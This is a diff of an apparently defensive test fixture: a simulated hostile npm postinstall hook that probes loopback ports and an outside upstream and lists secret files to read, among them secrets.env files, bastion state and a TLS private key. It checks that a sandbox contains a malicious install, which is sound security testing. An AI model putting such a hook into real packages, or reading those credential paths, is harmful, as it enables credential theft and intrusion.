@@ -1,13 +1,14 @@
 // A commit's postinstall, as an attacker with push access writes it: reach production's loopback services and
-// the metadata address, read production's files and bastion's state, write the checkout's .git. It records what
-// it managed in node_modules/.hostile-install.json (the one place it may write) and always succeeds, so the
-// install goes on and the test reads the record.
+// the world outside (here the sandbox's own upstream, OUTSIDE: the tests reach no other address), read
+// production's files and bastion's state, write the checkout's .git. It records what it managed in
+// node_modules/.hostile-install.json (the one place it may write) and always succeeds, so the install goes on
+// and the test reads the record.
 const fs = require('fs');
 const net = require('net');
 const os = require('os');
 
 const targets = [['127.0.0.1', 3444], ['::1', 3444], ['127.0.0.1', 6333], ['127.0.0.1', 9000],
-  ['127.0.0.1', 21000], ['169.254.169.254', 80], ['10.0.0.1', 443]];
+  ['127.0.0.1', 21000], OUTSIDE];
 const files = ['/mnt/coordinaton_mcp_data/.hub-secret', '/mnt/coordinaton_mcp_data/Human-Adjacent-Coordination/secrets.env',
   '/mnt/coordinaton_mcp_data/instances/Lupo-f63b/.env', '/etc/bastion/door/bastion.header',
   '/var/lib/bastion/follow.state', '/etc/hacs-dev/secrets.env', '/etc/letsencrypt/live/smoothcurves.nexus/privkey.pem'];
